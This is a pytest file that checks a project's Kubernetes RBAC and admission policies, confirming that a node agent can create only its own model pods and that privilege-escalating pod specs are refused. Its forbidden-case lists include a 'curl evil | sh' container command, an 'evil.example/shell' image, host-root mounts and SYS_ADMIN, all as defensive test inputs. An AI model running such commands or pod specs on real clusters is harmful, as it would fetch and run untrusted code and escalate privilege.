"""RBAC and the admission policies of `deploy/rbac/` (the chart's, rendered), on
a real API server.

The node agent authenticates the way it does in a cluster: with a service
account token bound (TokenRequest API) to its own Pod, here a KWOK pod on
worker-2, so the API server puts `authentication.kubernetes.io/node-name:
worker-2` into the request's user info. The controller authenticates with
its own account's token.

What is checked: the agent can create and delete exactly the model pods the
node agent builds (`pods.model_pod`) on its own node, and every way a pod
could lift it above that — another namespace, node, account, image or owner,
host namespaces, ports or paths, privilege, root, a command of its own (exec
hooks and probes too), Secrets or ConfigMaps, each field the Pod Security
Standards' restricted profile forbids — is refused with the policy's message;
the controller can set its
Node labels and nothing else on a Node.
"""

from __future__ import annotations

import copy
import re
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import yaml
from kubernetes import client, dynamic
from kubernetes.client.rest import ApiException

from lmedge.api import Decision, LMPlacement, NodeObservation, Placement, ServiceInfo
from lmedge.api.manifests import load_resources
from lmedge.backends.kubernetes.backend import KubernetesBackend, KubernetesSettings
from lmedge.backends.kubernetes.client import ClusterRefused, KubeClient
from lmedge.backends.kubernetes.pods import model_pod
from lmedge.nodeagent.agent import NodeAgent
from lmedge.operator.logic import model_images
from tests.fixtures.cluster import REPO, KubeCluster, wait_until

SYSTEM = "lmedge-system"
#: The workload namespace deploy/rbac/ is rendered for.
WORKLOADS = "lm-serving"
AGENT_SA = "lmedge-node-agent"
CONTROLLER_SA = "lmedge-controller"
MODEL_SA = "lmedge-model"
#: An account in the workload namespace with a cluster-admin binding.
POWERFUL_SA = "powerful"
IMAGES = "lmedge-model-images"
AGENT_NODE = "worker-2"
OWN_NODE = f"lmedge node agent on {AGENT_NODE} may create and delete pods only on its own node"
SERVICES = REPO / "examples/testbed/services.yaml"
#: A llama.cpp LMService with its GGUF in a claim; `VLLM` is a vLLM one with baked weights.
LLAMA = REPO / "examples/llama-cpp/lmservice.yaml"


def vllm_doc() -> dict[str, Any]:
    doc = yaml.safe_load(LLAMA.read_text())
    doc["metadata"]["name"] = "vllm-1b"
    doc["spec"]["image"] = "vllm/vllm-openai:v0.11.0"
    doc["spec"]["engine"]["kind"] = "vllm"
    doc["spec"]["engine"]["model"] = {"path": "/models/Llama-3.2-1B-Instruct"}
    return dict(doc)


def apply_file(api: Any, path: str) -> None:
    dyn = dynamic.DynamicClient(api)
    for doc in yaml.safe_load_all((REPO / path).read_text()):
        if not doc:
            continue
        resource = dyn.resources.get(api_version=doc["apiVersion"], kind=doc["kind"])
        try:
            resource.create(body=doc, namespace=doc["metadata"].get("namespace"))
        except ApiException as exc:
            if exc.status != 409:
                raise


def pod(name: str, node: str | None) -> dict[str, Any]:
    spec: dict[str, Any] = {"containers": [{"name": "c", "image": "lmedge/test:0"}]}
    if node:
        spec["nodeName"] = node
    return {"metadata": {"name": name}, "spec": spec}


def bound_token(admin: KubeClient, account: str, pod_name: str, uid: str) -> str:
    """A token of `account` bound to the pod (as the kubelet projects it)."""
    return str(
        admin.core.create_namespaced_service_account_token(
            account,
            SYSTEM,
            {
                "spec": {
                    "boundObjectRef": {
                        "apiVersion": "v1", "kind": "Pod", "name": pod_name, "uid": uid,
                    },
                    "expirationSeconds": 3600,
                }
            },
        ).status.token
    )  # fmt: skip


def install_rbac(cluster: KubeCluster) -> None:
    """deploy/rbac/*.yaml applied in order, as a Helm install would (idempotent)."""
    for ns in (SYSTEM, WORKLOADS):
        try:
            cluster.create_namespace(ns)
        except ApiException as exc:
            if exc.status != 409:
                raise
    with cluster.api_client() as api:
        for name in sorted((REPO / "deploy/rbac").glob("*.yaml")):
            apply_file(api, str(name.relative_to(REPO)))


@pytest.fixture(scope="module")
def installed(lmedge_cluster: KubeCluster) -> Iterator[KubeCluster]:
    """deploy/rbac/ applied, and the testbed's LMServices in the workload namespace."""
    install_rbac(lmedge_cluster)
    with lmedge_cluster.api_client() as api:
        core = client.CoreV1Api(api)
        try:
            core.create_namespaced_service_account(WORKLOADS, {"metadata": {"name": POWERFUL_SA}})
            client.RbacAuthorizationV1Api(api).create_cluster_role_binding(
                {
                    "metadata": {"name": f"{WORKLOADS}-{POWERFUL_SA}"},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                                "name": "cluster-admin"},
                    "subjects": [{"kind": "ServiceAccount", "name": POWERFUL_SA,
                                  "namespace": WORKLOADS}],
                }
            )  # fmt: skip
        except ApiException as exc:
            if exc.status != 409:
                raise
        custom = client.CustomObjectsApi(api)
        docs = [*yaml.safe_load_all(SERVICES.read_text()), yaml.safe_load(LLAMA.read_text())]
        for doc in [*docs, vllm_doc()]:
            if doc:
                try:
                    custom.create_namespaced_custom_object(
                        "lmedge.io", "v1alpha1", WORKLOADS, "lmservices", doc
                    )
                except ApiException as exc:
                    if exc.status != 409:
                        raise
    yield lmedge_cluster


@pytest.fixture(scope="module")
def admin(installed: KubeCluster) -> Iterator[KubeClient]:
    k = KubeClient.connect(installed.kubeconfig)
    yield k
    k.close()


@pytest.fixture(scope="module")
def images(admin: KubeClient) -> dict[str, str]:
    """The model-images ConfigMap as the operator writes it (`logic.model_images`)."""
    data = model_images(admin.list_lmservices(WORKLOADS))
    admin.core.patch_namespaced_config_map(IMAGES, SYSTEM, {"data": data})
    return data


@pytest.fixture(scope="module")
def services(tmp_path_factory: pytest.TempPathFactory) -> dict[str, ServiceInfo]:
    vllm = tmp_path_factory.mktemp("vllm") / "vllm.yaml"
    vllm.write_text(yaml.safe_dump(vllm_doc()))
    found = [s for path in (SERVICES, LLAMA, vllm) for s in load_resources(path)[1]]
    return {s.name: s for s in found}


@pytest.fixture(scope="module")
def agent(admin: KubeClient, images: dict[str, str], valid: dict[str, Any]) -> Iterator[KubeClient]:
    """The node agent's client: a token bound to its pod on worker-2."""
    name = f"agent-{uuid.uuid4().hex[:6]}"
    body = pod(name, AGENT_NODE)
    body["spec"]["serviceAccountName"] = AGENT_SA
    made = admin.core.create_namespaced_pod(SYSTEM, body)
    k = admin.with_token(bound_token(admin, AGENT_SA, name, made.metadata.uid))

    # A policy takes effect once the API server has compiled it (and, for the
    # image policy, seen its parameter): wait for both to refuse a dry run.
    def enforced() -> bool:
        refused = []
        other_image = copy.deepcopy(valid)
        other_image["spec"]["containers"][0]["image"] = "probe.example/x:1"
        for probe in (pod("probe", "worker-3"), other_image):
            try:
                k.core.create_namespaced_pod(WORKLOADS, probe, dry_run="All")
            except ApiException as exc:
                refused.append(
                    exc.status == 403 and "ValidatingAdmissionPolicy" in (exc.body or "")
                )
            else:
                refused.append(False)
        return all(refused)

    wait_until(enforced, 60, "the admission policies to be enforced")
    yield k
    k.close()
    admin.core.delete_namespaced_pod(name, SYSTEM)


@pytest.fixture(scope="module")
def valid(admin: KubeClient, services: dict[str, ServiceInfo]) -> dict[str, Any]:
    """The pod the node agent builds for lm2 on its node, owned by the live LMService."""
    uid = admin.custom.get_namespaced_custom_object(
        "lmedge.io", "v1alpha1", WORKLOADS, "lmservices", "lm2"
    )["metadata"]["uid"]
    return model_pod(
        services["lm2"],
        LMPlacement(lm="lm2", mode="gpu", cpu_cores=2, vgpus=1),
        AGENT_NODE,
        WORKLOADS,
        owner_uid=uid,
        service_account=MODEL_SA,
    )


def test_agent_token_carries_its_node(agent: KubeClient) -> None:
    review = client.AuthenticationV1Api(agent.api).create_self_subject_review(
        {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
    )
    info = review.status.user_info
    assert info.username == f"system:serviceaccount:{SYSTEM}:{AGENT_SA}"
    assert info.extra["authentication.kubernetes.io/node-name"] == [AGENT_NODE]


def test_agent_creates_and_deletes_its_model_pod(agent: KubeClient, valid: dict[str, Any]) -> None:
    assert agent.create_pod(valid)
    assert agent.delete_pod(WORKLOADS, valid["metadata"]["name"])


@pytest.mark.parametrize(
    "lm",
    ["lm1", "lm3", "lm4"],
)
def test_agent_may_create_every_lmservices_model_pod(
    agent: KubeClient, admin: KubeClient, services: dict[str, ServiceInfo], lm: str
) -> None:
    uid = admin.custom.get_namespaced_custom_object(
        "lmedge.io", "v1alpha1", WORKLOADS, "lmservices", lm
    )["metadata"]["uid"]
    placement = LMPlacement(lm=lm, mode="cpu", cpu_cores=1, vgpus=0)
    manifest = model_pod(services[lm], placement, AGENT_NODE, WORKLOADS, owner_uid=uid,
                         service_account=MODEL_SA)  # fmt: skip
    # A scratch emptyDir is fine too.
    manifest["spec"]["volumes"].append({"name": "scratch", "emptyDir": {}})
    manifest["spec"]["containers"][0]["volumeMounts"].append(
        {"name": "scratch", "mountPath": "/scratch"}
    )
    agent.call("create pod", agent.core.create_namespaced_pod, WORKLOADS, manifest, dry_run="All")


# -- every way a pod could lift the agent above its node's model pods ----------


def _set(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """Set (or with `_DELETE` remove) the field at a dotted path; `\\.` is a literal dot."""
    keys = [k.replace("\\.", ".") for k in re.split(r"(?<!\\)\.", path)]

    def change(pod: dict[str, Any]) -> None:
        *parents, last = keys
        node = pod
        for key in parents:
            node = node[int(key)] if key.isdigit() else node.setdefault(key, {})
        if value is _DELETE:
            del node[last]
        else:
            node[last] = value

    return change


_DELETE = object()
_C = "spec.containers.0"


def _add_volume(volume: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
    def change(pod: dict[str, Any]) -> None:
        pod["spec"]["volumes"].append(volume)
        pod["spec"]["containers"][0]["volumeMounts"].append(
            {"name": volume["name"], "mountPath": "/mnt/x"}
        )

    return change


def _owner(**fields: Any) -> Callable[[dict[str, Any]], None]:
    def change(pod: dict[str, Any]) -> None:
        pod["metadata"]["ownerReferences"][0].update(fields)

    return change


def _as_lm(lm: str) -> Callable[[dict[str, Any]], None]:
    """The pod as if for LM `lm`: label, owner and progress directory (one policy refuses)."""

    def change(pod: dict[str, Any]) -> None:
        pod["metadata"]["labels"]["lmedge.io/lm"] = lm
        pod["metadata"]["ownerReferences"][0]["name"] = lm
        pod["spec"]["volumes"][0]["hostPath"]["path"] = f"/var/lib/lmedge/progress/{lm}"

    return change


def _init_container(**fields: Any) -> Callable[[dict[str, Any]], None]:
    """An init container as well-behaved as the model server (its image, args), plus `fields`."""

    def change(pod: dict[str, Any]) -> None:
        init = copy.deepcopy(pod["spec"]["containers"][0])
        init.update(name="init", ports=[], **fields)
        pod["spec"]["initContainers"] = [init]

    return change


NO_EXEC = "runs its image's own entrypoint (no exec probes or lifecycle hooks)"


def _sidecar(pod: dict[str, Any]) -> None:
    # As well-behaved as the model server, only another image.
    side = copy.deepcopy(pod["spec"]["containers"][0])
    side.update(name="side", image="busybox:1.36", ports=[])
    pod["spec"]["containers"].append(side)


FORBIDDEN: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
    ("other-node", _set("spec.nodeName", "worker-3"), f"{OWN_NODE}, not on worker-3"),
    ("unbound", _set("spec.nodeName", _DELETE), f"{OWN_NODE}, not an unbound pod"),
    ("not-a-model-pod", _set("metadata.labels.app\\.kubernetes\\.io/managed-by", "me"),
     "may create and delete only lmedge model pods"),
    ("node-label-of-another", _set("metadata.labels.lmedge\\.io/node", "worker-3"),
     "may create and delete only lmedge model pods"),
    ("no-owner", _set("metadata.ownerReferences", _DELETE),
     "a model pod must have one owner, its LMService lm2"),
    ("owner-of-another-kind", _owner(kind="Deployment", apiVersion="apps/v1"),
     "a model pod must have one owner, its LMService lm2"),
    ("owner-of-another-uid", _owner(uid="00000000-0000-0000-0000-000000000000"),
     "a model pod must be owned by LMService lm2 (uid "),
    ("another-image", _set(f"{_C}.image", "evil.example/shell:1"),
     "may run only the image of LMService lm2 (ghcr.io/lmedge/model-server-gpt2-large:0.1.0), "
     "not evil.example/shell:1"),
    ("sidecar-of-another-image", _sidecar, "not busybox:1.36"),
    ("unlisted-lm", _as_lm("lm9"),
     "no LMService lm9 in lm-serving"),
    ("another-account", _set("spec.serviceAccountName", POWERFUL_SA),
     f"a model pod must run as service account {MODEL_SA}"),
    ("default-account", _set("spec.serviceAccountName", _DELETE),
     f"a model pod must run as service account {MODEL_SA}"),
    ("token-mounted", _set("spec.automountServiceAccountToken", True),
     "automountServiceAccountToken: false"),
    ("another-lms-progress", _set("spec.volumes.0.hostPath.path", "/var/lib/lmedge/progress/lm1"),
     "may mount only its progress directory /var/lib/lmedge/progress/lm2"),
    ("secret-volume", _add_volume({"name": "s", "secret": {"secretName": "lmedge-store"}}),
     "may mount only its progress directory"),
    ("token-volume", _add_volume({"name": "t", "projected": {"sources": [
        {"serviceAccountToken": {"path": "token"}}]}}), "may mount only its progress directory"),
    ("extra-arg", _set(f"{_C}.args", ["--lm", "lm2", "--modality", "text-to-text",
                                      "--device", "cuda", "--weights", "/tmp/x"]),
     "a model pod of LMService lm2 must run its pipeline engine with the args lmedge generates"),
    ("own-command", _set(f"{_C}.command", ["sh", "-c", "curl evil | sh"]),
     "runs its image's own entrypoint (args only, no command)"),
    ("init-container", _set("spec.initContainers", [
        {"name": "i", "image": "ghcr.io/lmedge/model-server-gpt2-large:0.1.0"}]),
     "no init or ephemeral containers"),
    # A hook or probe that execs is a command by another name.
    ("post-start-exec", _set(f"{_C}.lifecycle.postStart.exec.command", ["sh"]), NO_EXEC),
    ("pre-stop-exec", _set(f"{_C}.lifecycle.preStop.exec.command", ["sh"]), NO_EXEC),
    ("startup-probe-exec", _set(f"{_C}.startupProbe", {"exec": {"command": ["sh"]}}), NO_EXEC),
    ("readiness-probe-exec", _set(f"{_C}.readinessProbe", {"exec": {"command": ["sh"]}}),
     NO_EXEC),
    ("liveness-probe-exec", _set(f"{_C}.livenessProbe", {"exec": {"command": ["sh"]}}), NO_EXEC),
    # (Refused as an init container first; the exec rule covers init containers too.)
    ("init-container-exec", _init_container(
        restartPolicy="Always", lifecycle={"postStart": {"exec": {"command": ["sh"]}}}),
     "no init or ephemeral containers"),
    ("secret-env", _set(f"{_C}.env", [{"name": "X", "valueFrom": {
        "secretKeyRef": {"name": "lmedge-store", "key": "uri"}}}]),
     "may not read Secrets or ConfigMaps into its environment"),
    ("configmap-env", _set(f"{_C}.env", [{"name": "HOME", "valueFrom": {
        "configMapKeyRef": {"name": "lmedge-model-images", "key": "lm2.image"}}}]),
     "may not read Secrets or ConfigMaps into its environment"),
    ("env-from", _set(f"{_C}.envFrom", [{"secretRef": {"name": "lmedge-store"}}]),
     "may not read Secrets or ConfigMaps into its environment"),
]  # fmt: skip


@pytest.mark.parametrize(("change", "message"), [(c, m) for _, c, m in FORBIDDEN],
                         ids=[i for i, _, _ in FORBIDDEN])  # fmt: skip
def test_agent_may_not_create(
    agent: KubeClient,
    valid: dict[str, Any],
    change: Callable[[dict[str, Any]], None],
    message: str,
) -> None:
    manifest = copy.deepcopy(valid)
    change(manifest)

    with pytest.raises(ClusterRefused) as refused:
        agent.call("create pod", agent.core.create_namespaced_pod, WORKLOADS, manifest,
                   dry_run="All")  # fmt: skip

    assert refused.value.status == 403
    assert "ValidatingAdmissionPolicy" in refused.value.message
    assert message in refused.value.message, refused.value.message


# -- the Pod Security Standards' restricted profile, field by field ----------------
#
# The workload namespace cannot enforce Pod Security Admission (model pods mount
# their progress directory from the host), so the policy enforces the profile
# itself. One row per field of the standards' baseline and restricted lists
# (https://kubernetes.io/docs/concepts/security/pod-security-standards/), each
# set to a value the profile forbids, plus what lmedge forbids beyond it (group 0,
# hostUsers, system priority classes); the id is the field.

_PSC = "spec.securityContext"
_CSC = f"{_C}.securityContext"
_APPARMOR = "metadata.annotations." + re.escape("container.apparmor.security.beta.kubernetes.io")
_APPARMOR += "/model-server"


def _both(*changes: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], None]:
    def change(pod: dict[str, Any]) -> None:
        for c in changes:
            c(pod)

    return change


NON_ROOT = "must run as non-root (runAsNonRoot: true, no uid 0)"
SECCOMP = "must run under the seccomp profile RuntimeDefault or Localhost"
APPARMOR = "AppArmor profile must be RuntimeDefault or Localhost"
SELINUX = "may set no SELinux user or role, and only the SELinux type container_t"
GROUP_0 = "may not run with group 0"
HOST_NS = "may not use the host's network, PID or IPC namespaces"

RESTRICTED: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
    # baseline
    # (The API server admits a host process only with hostNetwork.)
    (f"{_PSC}.windowsOptions.hostProcess", _both(_set(f"{_PSC}.windowsOptions.hostProcess", True),
                                                 _set("spec.hostNetwork", True)),
     "nor a Windows host process"),
    (f"{_CSC}.windowsOptions.hostProcess", _both(_set(f"{_CSC}.windowsOptions.hostProcess", True),
                                                 _set("spec.hostNetwork", True)),
     "nor a Windows host process"),
    ("spec.hostNetwork", _set("spec.hostNetwork", True), HOST_NS),
    ("spec.hostPID", _set("spec.hostPID", True), HOST_NS),
    ("spec.hostIPC", _set("spec.hostIPC", True), HOST_NS),
    # (The API server refuses privileged without escalation as invalid.)
    (f"{_CSC}.privileged", lambda p: p["spec"]["containers"][0]["securityContext"].update(
        privileged=True, allowPrivilegeEscalation=True), "may not be privileged"),
    (f"{_CSC}.capabilities.add", _set(f"{_CSC}.capabilities.add", ["SYS_ADMIN"]),
     "may not add capabilities"),
    ("spec.volumes.hostPath", _add_volume({"name": "root", "hostPath": {"path": "/"}}),
     "may mount only its progress directory /var/lib/lmedge/progress/lm2 from the host"),
    (f"{_C}.ports.hostPort", _set(f"{_C}.ports.0.hostPort", 8000), "may not use host ports"),
    (f"{_PSC}.appArmorProfile.type", _set(f"{_PSC}.appArmorProfile.type", "Unconfined"),
     APPARMOR),
    (f"{_CSC}.appArmorProfile.type", _set(f"{_CSC}.appArmorProfile.type", "Unconfined"),
     APPARMOR),
    ("metadata.annotations.container.apparmor.security.beta.kubernetes.io",
     _set(_APPARMOR, "unconfined"), APPARMOR),
    (f"{_PSC}.seLinuxOptions.type", _set(f"{_PSC}.seLinuxOptions.type", "spc_t"), SELINUX),
    (f"{_CSC}.seLinuxOptions.type", _set(f"{_CSC}.seLinuxOptions.type", "unconfined_t"), SELINUX),
    (f"{_PSC}.seLinuxOptions.user", _set(f"{_PSC}.seLinuxOptions.user", "system_u"), SELINUX),
    (f"{_CSC}.seLinuxOptions.user", _set(f"{_CSC}.seLinuxOptions.user", "system_u"), SELINUX),
    (f"{_PSC}.seLinuxOptions.role", _set(f"{_PSC}.seLinuxOptions.role", "system_r"), SELINUX),
    (f"{_CSC}.seLinuxOptions.role", _set(f"{_CSC}.seLinuxOptions.role", "system_r"), SELINUX),
    # (The API server admits Unmasked only in a pod of its own user namespace.)
    (f"{_CSC}.procMount", _both(_set(f"{_CSC}.procMount", "Unmasked"),
                                _set("spec.hostUsers", False)), "procMount: Default"),
    (f"{_PSC}.seccompProfile.type", _set(f"{_PSC}.seccompProfile.type", "Unconfined"), SECCOMP),
    (f"{_CSC}.seccompProfile.type", _set(f"{_CSC}.seccompProfile.type", "Unconfined"), SECCOMP),
    (f"{_PSC}.sysctls", _set(f"{_PSC}.sysctls", [{"name": "kernel.msgmax", "value": "65536"}]),
     "may set only the safe sysctls (kernel.shm_rmid_forced, "),
    # restricted
    ("spec.volumes.nfs", _add_volume({"name": "n", "nfs": {"server": "nfs.example", "path": "/"}}),
     "may mount only its progress directory"),
    (f"{_CSC}.allowPrivilegeEscalation", _set(f"{_CSC}.allowPrivilegeEscalation", True),
     "allowPrivilegeEscalation: false"),
    (f"{_PSC}.runAsNonRoot", _set(f"{_PSC}.runAsNonRoot", _DELETE), NON_ROOT),
    (f"{_CSC}.runAsNonRoot", _set(f"{_CSC}.runAsNonRoot", False), NON_ROOT),
    (f"{_PSC}.runAsUser", _set(f"{_PSC}.runAsUser", 0), NON_ROOT),
    (f"{_CSC}.runAsUser", _set(f"{_CSC}.runAsUser", 0), NON_ROOT),
    (f"{_PSC}.seccompProfile", _set(f"{_PSC}.seccompProfile", _DELETE), SECCOMP),
    (f"{_CSC}.capabilities.drop", _set(f"{_CSC}.capabilities.drop", ["NET_RAW"]),
     "must drop ALL capabilities"),
    (f"{_CSC}.capabilities.add.NET_BIND_SERVICE",
     _set(f"{_CSC}.capabilities.add", ["NET_BIND_SERVICE"]), "may not add capabilities"),
    # beyond the profile
    (f"{_PSC}.runAsGroup", _set(f"{_PSC}.runAsGroup", 0), GROUP_0),
    (f"{_CSC}.runAsGroup", _set(f"{_CSC}.runAsGroup", 0), GROUP_0),
    (f"{_PSC}.fsGroup", _set(f"{_PSC}.fsGroup", 0), GROUP_0),
    (f"{_PSC}.supplementalGroups", _set(f"{_PSC}.supplementalGroups", [10001, 0]), GROUP_0),
    ("spec.hostUsers=false", _set("spec.hostUsers", False), "may not set hostUsers"),
    ("spec.hostUsers=true", _set("spec.hostUsers", True), "may not set hostUsers"),
    ("spec.priorityClassName=system-node-critical",
     _set("spec.priorityClassName", "system-node-critical"), "priority class system-node-critical"),
    ("spec.priorityClassName=system-cluster-critical",
     _set("spec.priorityClassName", "system-cluster-critical"),
     "priority class system-node-critical"),
]  # fmt: skip


@pytest.mark.parametrize(("change", "message"), [(c, m) for _, c, m in RESTRICTED],
                         ids=[i for i, _, _ in RESTRICTED])  # fmt: skip
def test_agent_may_not_relax_the_restricted_profile(
    agent: KubeClient,
    valid: dict[str, Any],
    change: Callable[[dict[str, Any]], None],
    message: str,
) -> None:
    manifest = copy.deepcopy(valid)
    change(manifest)

    with pytest.raises(ClusterRefused) as refused:
        agent.call("create pod", agent.core.create_namespaced_pod, WORKLOADS, manifest,
                   dry_run="All")  # fmt: skip

    assert refused.value.status == 403
    assert "ValidatingAdmissionPolicy" in refused.value.message
    assert message in refused.value.message, refused.value.message


# -- token engines: llama.cpp and vLLM pods as lmedge builds them, and no other --


def engine_pod(
    admin: KubeClient, services: dict[str, ServiceInfo], lm: str, mode: str
) -> dict[str, Any]:
    uid = admin.custom.get_namespaced_custom_object(
        "lmedge.io", "v1alpha1", WORKLOADS, "lmservices", lm
    )["metadata"]["uid"]
    placement = LMPlacement(lm=lm, mode=mode, cpu_cores=2, vgpus=1 if mode == "gpu" else 0)
    return model_pod(services[lm], placement, AGENT_NODE, WORKLOADS, owner_uid=uid,
                     service_account=MODEL_SA, gpu_vram_gib=24)  # fmt: skip


ENGINE_PODS = [("llama-1b", "gpu"), ("llama-1b", "cpu"), ("vllm-1b", "gpu"), ("vllm-1b", "cpu")]


@pytest.mark.parametrize(("lm", "mode"), ENGINE_PODS, ids=[f"{lm}-{m}" for lm, m in ENGINE_PODS])
def test_agent_may_create_token_engine_pods(
    agent: KubeClient, admin: KubeClient, services: dict[str, ServiceInfo], lm: str, mode: str
) -> None:
    manifest = engine_pod(admin, services, lm, mode)
    agent.call("create pod", agent.core.create_namespaced_pod, WORKLOADS, manifest, dry_run="All")


def _args(change: Callable[[list[str]], None]) -> Callable[[dict[str, Any]], None]:
    def apply(pod: dict[str, Any]) -> None:
        change(pod["spec"]["containers"][0]["args"])

    return apply


def _claim(name: str, read_only: bool) -> Callable[[dict[str, Any]], None]:
    return _set("spec.volumes.0.persistentVolumeClaim",
                {"claimName": name, "readOnly": read_only})  # fmt: skip


LLAMA_ARGS = "a model pod of LMService llama-1b must run its llama.cpp engine with the args"
VLLM_ARGS = "a model pod of LMService vllm-1b must run its vllm engine with the args"
ENGINE_FORBIDDEN: list[tuple[str, str, Callable[[dict[str, Any]], None], str]] = [
    ("llama-extra-arg", "llama-1b", _args(lambda a: a.extend(["--api-key", "x"])), LLAMA_ARGS),
    ("llama-other-model", "llama-1b", _args(lambda a: a.__setitem__(1, "/models/other.gguf")),
     LLAMA_ARGS),
    ("llama-flag-as-number", "llama-1b", _args(lambda a: a.__setitem__(9, "--log-file")),
     LLAMA_ARGS),
    ("llama-checkpoints-on", "llama-1b",
     _args(lambda a: a.__setitem__(a.index("--ctx-checkpoints") + 1, "8")), LLAMA_ARGS),
    ("llama-cache-per-slot", "llama-1b", _args(lambda a: a.remove("--kv-unified")), LLAMA_ARGS),
    ("llama-slot-context-word", "llama-1b",
     _args(lambda a: a.__setitem__(a.index("--kv-unified-per-slot") + 1, "max")), LLAMA_ARGS),
    ("llama-pipeline-args", "llama-1b",
     _set(f"{_C}.args", ["--lm", "llama-1b", "--modality", "text-to-text", "--device", "cuda"]),
     LLAMA_ARGS),
    ("vllm-remote-code", "vllm-1b", _args(lambda a: a.append("--trust-remote-code")), VLLM_ARGS),
    ("vllm-utilization-word", "vllm-1b", _args(lambda a: a.__setitem__(13, "all")), VLLM_ARGS),
    ("llama-env", "llama-1b", _set(f"{_C}.env", [{"name": "LD_PRELOAD", "value": "/models/x"}]),
     "nor set any variable but HOME=/tmp"),
    ("vllm-extra-env", "vllm-1b", lambda p: p["spec"]["containers"][0]["env"].append(
        {"name": "VLLM_ALLOW_RUNTIME_LORA_UPDATING", "value": "1"}),
     "nor set any variable but HOME=/tmp"),
    ("llama-foreign-claim", "llama-1b", _claim("lmedge-store", True),
     "a model pod of LMService llama-1b may mount only its model claim llama-1b-gguf"),
    ("llama-writable-claim", "llama-1b", _claim("llama-1b-gguf", False),
     "emptyDir volumes and its model claim read-only"),
    ("vllm-any-claim", "vllm-1b", _set("spec.volumes", [{"name": "w", "persistentVolumeClaim": {
        "claimName": "llama-1b-gguf", "readOnly": True}}]),
     "a model pod of LMService vllm-1b may mount only no claim"),
    ("exec-probe", "llama-1b", _set(f"{_C}.readinessProbe", {"exec": {"command": ["sh"]}}),
     "no exec probes or lifecycle hooks"),
    ("hook", "vllm-1b", _set(f"{_C}.lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}),
     "no exec probes or lifecycle hooks"),
]  # fmt: skip


@pytest.mark.parametrize(("lm", "change", "message"), [c[1:] for c in ENGINE_FORBIDDEN],
                         ids=[c[0] for c in ENGINE_FORBIDDEN])  # fmt: skip
def test_agent_may_not_create_token_engine_pods_beyond_their_shape(
    agent: KubeClient,
    admin: KubeClient,
    services: dict[str, ServiceInfo],
    lm: str,
    change: Callable[[dict[str, Any]], None],
    message: str,
) -> None:
    manifest = engine_pod(admin, services, lm, "gpu")
    change(manifest)

    with pytest.raises(ClusterRefused) as refused:
        agent.call("create pod", agent.core.create_namespaced_pod, WORKLOADS, manifest,
                   dry_run="All")  # fmt: skip

    assert refused.value.status == 403
    assert message in refused.value.message, refused.value.message


def test_agent_may_not_create_pods_in_another_namespace(
    agent: KubeClient, valid: dict[str, Any]
) -> None:
    # RBAC refuses first (the agent's Role is in the workload namespace only).
    for ns in (SYSTEM, "default", "kube-system"):
        manifest = {**valid, "metadata": {**valid["metadata"], "namespace": ns}}
        with pytest.raises(ClusterRefused) as refused:
            agent.create_pod(manifest)
        assert refused.value.status == 403
        assert f'cannot create resource "pods" in API group "" in the namespace "{ns}"' in (
            refused.value.message
        )


def test_agent_may_delete_only_its_nodes_model_pods(
    agent: KubeClient, admin: KubeClient, valid: dict[str, Any]
) -> None:
    other_node = copy.deepcopy(valid)
    other_node["metadata"]["name"] = "lm2-on-3"
    other_node["metadata"]["labels"]["lmedge.io/node"] = "worker-3"
    other_node["spec"]["nodeName"] = "worker-3"
    plain = {**pod("app", AGENT_NODE), "metadata": {"name": "app", "namespace": WORKLOADS}}
    for body in (other_node, plain):
        admin.core.create_namespaced_pod(WORKLOADS, body)
    try:
        with pytest.raises(ClusterRefused, match=f"{OWN_NODE}, not on worker-3"):
            agent.delete_pod(WORKLOADS, "lm2-on-3")
        with pytest.raises(ClusterRefused, match="may create and delete only lmedge model pods"):
            agent.delete_pod(WORKLOADS, "app")
        for name in ("lm2-on-3", "app"):
            live = admin.core.read_namespaced_pod(name, WORKLOADS)
            assert live.metadata.deletion_timestamp is None
    finally:
        for name in ("lm2-on-3", "app"):
            admin.core.delete_namespaced_pod(name, WORKLOADS, grace_period_seconds=0)


def test_the_policies_do_not_bind_other_users(admin: KubeClient) -> None:
    body = {**pod("admin", "worker-5"), "metadata": {"name": "admin", "namespace": WORKLOADS}}
    assert admin.create_pod(body)
    assert admin.delete_pod(WORKLOADS, "admin")


def test_an_unbound_agent_token_is_refused(admin: KubeClient, valid: dict[str, Any]) -> None:
    token = admin.core.create_namespaced_service_account_token(
        AGENT_SA, SYSTEM, {"spec": {"expirationSeconds": 600}}
    ).status.token
    unbound = admin.with_token(token)

    with pytest.raises(ClusterRefused, match="carries no node identity"):
        unbound.create_pod(valid)


@pytest.mark.parametrize(
    ("resource", "verb", "group", "namespace", "allowed"),
    [
        ("pods", "create", "", WORKLOADS, True),
        ("pods", "delete", "", WORKLOADS, True),
        ("pods", "list", "", WORKLOADS, True),
        ("pods", "list", "", "", False),  # not cluster-wide
        ("pods", "list", "", "kube-system", False),
        ("pods", "create", "", SYSTEM, False),
        ("pods", "patch", "", WORKLOADS, False),
        ("pods", "deletecollection", "", WORKLOADS, False),
        ("pods/eviction", "create", "", WORKLOADS, False),
        ("pods/ephemeralcontainers", "patch", "", WORKLOADS, False),
        ("edgenodes", "list", "lmedge.io", "", True),
        ("edgenodes", "patch", "lmedge.io", "", False),
        ("lmservices", "list", "lmedge.io", WORKLOADS, True),
        ("lmservices", "list", "lmedge.io", "", False),
        ("lmservices", "delete", "lmedge.io", WORKLOADS, False),
        ("tokenreviews", "create", "authentication.k8s.io", "", True),
        ("configmaps", "create", "", WORKLOADS, False),
        ("configmaps", "patch", "", WORKLOADS, False),
        ("nodes", "patch", "", "", False),
        ("secrets", "get", "", WORKLOADS, False),
        ("serviceaccounts/token", "create", "", WORKLOADS, False),
    ],
)
def test_agent_rbac_is_least_privilege(
    agent: KubeClient, resource: str, verb: str, group: str, namespace: str, allowed: bool
) -> None:
    main, _, sub = resource.partition("/")
    review = client.AuthorizationV1Api(agent.api).create_self_subject_access_review(
        {
            "apiVersion": "authorization.k8s.io/v1",
            "kind": "SelfSubjectAccessReview",
            "spec": {
                "resourceAttributes": {
                    "namespace": namespace, "verb": verb, "group": group,
                    "resource": main, "subresource": sub,
                }
            },
